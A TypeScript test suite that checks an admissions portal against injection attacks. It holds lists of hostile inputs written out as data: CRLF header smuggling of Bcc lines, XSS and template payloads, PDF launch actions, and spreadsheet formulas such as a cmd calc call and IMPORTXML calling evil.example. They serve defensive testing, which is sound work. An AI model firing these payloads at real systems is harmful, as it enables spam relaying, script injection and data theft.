import { readdir, readFile } from 'node:fs/promises'
import { join } from 'node:path'
import PostalMime from 'postal-mime'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import type { ApplicationOnWire } from '#shared/contract/schemas/applications.ts'
import { mailFolder } from '../adapters/mail/index.ts'
import { toCsv } from '../base/csv.ts'
import { sandboxSecretKey } from '../features/sandbox/service.ts'
import { type TestApp, testApp } from '../testing/app.ts'
import {
  formOf,
  multipartOf,
  postgraduateAnswers,
  postgraduateDocuments,
  savePostgraduate,
  signedUp,
} from '../testing/people.ts'

let portal: TestApp
beforeAll(async () => {
  portal = await testApp()
})
afterAll(() => portal.close())

interface SentMail {
  /** Of its head, in lower case. */
  headers: string[]
  recipients: string[]
  subject: string
  html: string
  raw: string
}

/** The mails that were captured, as a mail program reads them. */
async function sentMails(): Promise<SentMail[]> {
  await portal.mails.all()
  const folder = mailFolder(portal.context.config.dataDir)
  const names = (await readdir(folder)).filter(name => name.endsWith('.eml'))
  return Promise.all(
    names.map(async name => {
      const raw = await readFile(join(folder, name), 'utf8')
      const mail = await PostalMime.parse(raw)
      const recipients = [...(mail.to ?? []), ...(mail.cc ?? []), ...(mail.bcc ?? [])].map(one => one.address ?? '')
      return {
        headers: mail.headers.map(one => one.key),
        recipients,
        subject: mail.subject ?? '',
        html: mail.html ?? '',
        raw,
      }
    }),
  )
}

const lineEnds = [
  '\r\n',
  '\n',
  '\r',
  '\n\r',
  '\r\n\r\n',
  '\u0085',
  '\u2028',
  '\u2029',
  '\v',
  '\f',
  '\0\r\n',
  '%0d%0a',
  '%0A',
  '\\r\\n',
  '=0D=0A',
  '=?utf-8?q?=0D=0A?=',
  '\u560d\u560a',
  '\r\n ',
  '\n\t',
  '&#13;&#10;',
]
const stowaways = ['Bcc: victim@evil.example', 'Content-Type: text/html', 'To: victim@evil.example', 'X-Spam: no']
const places = ['full_name', 'email', 'subject', 'message'] as const

describe('no line end in a field becomes a line of an email’s head:', () => {
  test(`${lineEnds.length * stowaways.length * places.length} messages to the office`, async () => {
    const plain = { full_name: 'Ada', email: 'ada@example.com', subject: 'Hostels', message: 'Is there a room?' }
    const send = (fields: Record<string, string>) =>
      portal.app.inject({ method: 'POST', url: '/contact/send', ...formOf(fields) })
    expect((await send(plain)).statusCode).toBe(200)
    const [first] = await sentMails()
    const statuses = new Set<number>()
    for (const place of places)
      for (const end of lineEnds)
        for (const stowaway of stowaways)
          statuses.add((await send({ ...plain, [place]: `${plain[place]}${end}${stowaway}` })).statusCode)
    expect([...statuses].sort()).toEqual([200, 422])
    for (const mail of await sentMails()) {
      expect(mail.headers.sort(), mail.raw.slice(0, 600)).toEqual(first?.headers.sort())
      expect(mail.recipients).toEqual(['admissions@usta.example'])
    }
  })

  test('names and addresses of referees', async () => {
    const applicant = await signedUp(portal)
    const before = (await sentMails()).length
    const refusals: number[] = []
    for (const end of lineEnds.slice(0, 12))
      for (const [field, value] of [
        ['first_referee_email', `m.bello@unilag.edu.ng${end}Bcc: victim@evil.example`],
        ['first_referee_email', `victim@evil.example${end}@unilag.edu.ng`],
        ['first_referee_name', `Musa${end}Bcc: victim@evil.example`],
        ['surname', `Nwosu${end}Bcc: victim@evil.example`],
      ] as const) {
        const answer = await savePostgraduate(portal, applicant, {
          is_draft: 'true',
          selected_program: 'msc-applied-math',
          [field]: value,
        })
        refusals.push(answer.statusCode)
      }
    expect(refusals.every(status => status === 200 || status === 422)).toBe(true)
    expect((await sentMails()).length).toBe(before)
    for (const mail of await sentMails()) expect(mail.recipients.join()).not.toContain('evil.example')
  })

  test('the address that asks for a code', async () => {
    for (const end of lineEnds)
      for (const url of ['/auth/forgot-password', '/auth/send-verification', '/auth/signup']) {
        const email = `adaeze@example.com${end}victim@evil.example`
        const payload = { email, full_name: 'Ada', password: 'three words in a row', program_type: 'msc' }
        expect((await portal.app.inject({ method: 'POST', url, payload })).statusCode, email).toBe(422)
      }
  })
})

const scripts = [
  '<script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '<svg/onload=alert(1)>',
  '</title><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '--><script>alert(1)</script>',
  '<a href="javascript:alert(1)">here</a>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<math><mtext><img src=x>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<body onload=alert(1)>',
  '<base href=//evil.example>',
  '<meta http-equiv=refresh>',
  '{{7*7}}',
  '$'.concat('{7*7}'),
  '<%= 7*7 %>',
  '#{7*7}',
  '*{7*7}',
  '@(7*7)',
  '[[$'.concat('{7*7}]]'),
  '<form action=//evil.example>',
  '<link rel=stylesheet href=//evil.example>',
  '<img src="https://evil.example/pixel.gif">',
  '<!--',
  ']]>',
  '\u202e<b>',
]

describe('what someone typed is text wherever it is shown:', () => {
  test('in an email to the office', async () => {
    for (const script of scripts) {
      const fields = { full_name: script, email: 'ada@example.com', subject: script, message: `${script}\n${script}` }
      await portal.app.inject({ method: 'POST', url: '/contact/send', ...formOf(fields) })
    }
    const mails = (await sentMails()).filter(mail => mail.subject.startsWith('Website: '))
    expect(mails.length).toBeGreaterThan(scripts.length)
    for (const { html } of mails) {
      expect(new Set([...html.matchAll(/<\/?([a-z][a-z0-9]*)/gi)].map(match => match[1]?.toLowerCase()))).toEqual(
        ownTags,
      )
      // Of the frame, for dark screens.
      expect(html.match(/<style/gi)).toHaveLength(1)
      expect(html).not.toMatch(/<[^>]*\s(on\w+|srcdoc|http-equiv)=/i)
      for (const [, href] of html.matchAll(/\s(?:href|src)="([^"]*)"/g))
        expect(href).toMatch(/^(http:\/\/portal\.test\/|mailto:)/)
    }
    const arithmetic = mails.map(mail => mail.html).join('')
    expect(arithmetic).not.toContain('Dear 49')
    expect(arithmetic).toContain('{{7*7}}')
  })

  test('in the page of captured mails', async () => {
    const list = await portal.app.inject({ url: '/dev/mail' })
    expect(list.body).toContain('&#60;script')
    for (const script of scripts.filter(one => one.startsWith('<'))) expect(list.body, script).not.toContain(script)
  })

  test('in an application’s own record, which contains no action and no address', async () => {
    const applicant = await signedUp(portal, { email: 'bola@example.com' })
    const answers = postgraduateAnswers({
      email: 'bola@example.com',
      surname: '<script>alert(1)</script>',
      first_name: '/JavaScript (app.alert(1))',
      other_names: '(https://evil.example) /URI',
      address: '>> endobj 99 0 obj << /OpenAction << /S /Launch >> >>',
      is_draft: 'false',
    })
    const sent = await savePostgraduate(portal, applicant, answers, await postgraduateDocuments())
    expect(sent.statusCode, sent.body).toBe(200)
    const { uuid } = sent.json<ApplicationOnWire>()
    const record = await portal.app.inject({ url: `/applications/${uuid}/record`, headers: applicant.bearer })
    expect(record.headers['content-type']).toBe('application/pdf')
    const pdf = record.rawPayload.toString('latin1')
    const outsideStreams = pdf.replace(/stream[\s\S]*?endstream/g, '')
    for (const active of [
      '/JavaScript',
      '/JS',
      '/Launch',
      '/URI',
      '/OpenAction',
      '/AA',
      '/EmbeddedFile',
      'evil.example',
    ])
      expect(outsideStreams, active).not.toContain(active)
  })

  test('in the card page of the sandbox', async () => {
    const opened = await portal.app.inject({
      method: 'POST',
      url: '/sandbox/paystack/transaction/initialize',
      headers: { authorization: `Bearer ${sandboxSecretKey(portal.context.config.secret)}` },
      payload: {
        email: 'ada@example.com',
        amount: 1000,
        metadata: { purpose: scripts[0], custom_fields: [{ display_name: scripts[1], value: scripts[2] }] },
      },
    })
    const code = opened.json<{ data?: { access_code: string } }>().data?.access_code
    const page = await portal.app.inject({ url: `/sandbox/paystack/checkout/${code}` })
    for (const script of scripts.slice(0, 3)) expect(page.body).not.toContain(script)
  })
})

/** Those that our own mails are made of. */
const ownTags = new Set(['html', 'head', 'meta', 'title', 'style', 'body', 'div', 'p', 'br', 'table', 'tr', 'td'])

describe('a file for a spreadsheet', () => {
  const signs = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠', ' =', '\u00a0=', '\ufeff=']
  const formulas = [
    '1+1',
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example","here")',
    'SUM(A1:A9)*2',
    'IMPORTXML("http://evil.example")',
  ]

  test.each(signs.flatMap(sign => formulas.map(formula => `${sign}${formula}`)))('runs nothing of %j', payload => {
    const apart = [`a\r\n${payload}`, `a;${payload};`, `a\t${payload}`, `;${payload}`]
    for (const cell of [payload, `"${payload}`, `a,${payload}`, ...apart]) {
      const [, [first, second] = []] = readCsv(toCsv(['a', 'b'], [[cell, 'next']]))
      expect(second, 'stays in its cell').toBe('next')
      if (cell === payload) expect(first).not.toMatch(/^\s*[=+\-@＝＋－＠\t\r]/)
      for (const part of first?.split(/[;\t\r\n]/).slice(1) ?? []) expect(part).not.toMatch(/^\s*[=+\-@＝＋－＠]/)
      expect(first?.replace(/(^|[;\t\r\n]\s*)'/g, '$1')).toBe(cell)
    }
  })
})

/** RFC 4180, as a spreadsheet reads it. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [[]]
  for (const [, quoted, plain = '', end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/g)) {
    rows.at(-1)?.push(quoted === undefined ? plain : quoted.replaceAll('""', '"'))
    if (end === '\r\n') rows.push([])
    if (end === '') break
  }
  return rows
}

test('fields that no one asks for are stored nowhere', async () => {
  const applicant = await signedUp(portal, { email: 'chidi@example.com' })
  const forbidden = {
    id: '1',
    uuid: '00000000-0000-4000-8000-000000000000',
    account_id: '1',
    status: 'submitted',
    has_paid: 'true',
    is_admin: 'true',
    role: 'office',
    application_number: 'USTA-1',
    submitted_at: '2020-01-01',
    referee_1: 'true',
    referee_2: 'true',
    email_key: 'x',
    storage_key: 'x',
    revision: '99',
    payment_reference: 'msc_1',
    password_hash: 'x',
    'answers[has_paid]': 'true',
    'has_paid[]': 'true',
  }
  const { headers, payload } = multipartOf({
    is_draft: 'true',
    selected_program: 'msc-applied-math',
    ...forbidden,
  })
  const answer = await portal.app.inject({
    method: 'POST',
    url: '/postgraduate/upload',
    headers: { ...headers, ...applicant.bearer },
    payload,
  })
  expect(answer.json()).toMatchObject({ status: 'draft', has_paid: false, referee_1: false, submitted_at: null })
  const row = await portal.context.db
    .selectFrom('application')
    .selectAll()
    .where('email', '=', 'chidi@example.com')
    .executeTakeFirstOrThrow()
  const stored = JSON.stringify(row.answers)
  for (const name of Object.keys(forbidden)) expect(stored, name).not.toContain(`"${name}"`)
})

test.each([
  '__proto__',
  'constructor',
  'prototype',
  '__proto__.has_paid',
  'constructor.prototype.has_paid',
  '__proto__[has_paid]',
])('a field called %s changes no object', async name => {
  const json = `{"email":"ada@example.com",${JSON.stringify(name)}:{"has_paid":true}}`
  const { headers, payload } = multipartOf({ [name]: 'true', full_name: 'Ada' })
  for (const request of [
    { url: '/auth/forgot-password', headers: { 'content-type': 'application/json' }, payload: json },
    { url: '/contact/send', ...formOf({ [name]: 'true' }) },
    { url: '/contact/send', headers, payload },
    { url: '/applications', headers, payload },
  ])
    expect([200, 400, 422]).toContain((await portal.app.inject({ method: 'POST', ...request })).statusCode)
  expect(({} as { has_paid?: unknown }).has_paid).toBeUndefined()
})
